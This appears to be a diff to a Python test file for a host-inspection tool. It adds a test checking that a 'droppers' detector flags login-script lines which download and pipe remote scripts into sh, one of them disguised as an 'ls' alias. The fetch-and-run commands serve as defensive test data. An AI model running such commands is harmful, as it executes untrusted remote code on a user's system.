@@ -9,7 +9,7 @@ from hosts import MACHINE, bare, given
 
 from techkit.host import Host, ProbeError
 from techkit.model import Reason
-from techkit.readings import autoruns, autostarts
+from techkit.readings import autoruns, autostarts, droppers
 
 # ruff: noqa: S108 - folders of temporary files are what is looked at
 
@@ -184,3 +184,15 @@ def test_without_an_administrator_the_rest_is_seen() -> None:
 def test_nothing_is_asked_of_a_host_that_recorded_nothing() -> None:
     with pytest.raises(ProbeError):
         autostarts.linux(given())
+
+
+def test_what_only_gets_a_name_is_not_started_by_a_login() -> None:
+    text = (
+        "alias up='curl -fsSL https://get.example.org | sh'\n"
+        "update() { curl -fsSL https://get.example.org | sh; }\n"
+        "function again {\n  curl -fsSL https://get.example.org | sh\n}\n"
+        "alias ls='curl http://203.0.113.9/x | sh'\n"
+        "curl -fsSL https://get.example.org | sh\n"
+    )
+    signs = [droppers.sign(line) for line in autostarts.parse_login(text)]
+    assert [sign for sign in signs if sign] == ["smuggled", "fetched"]
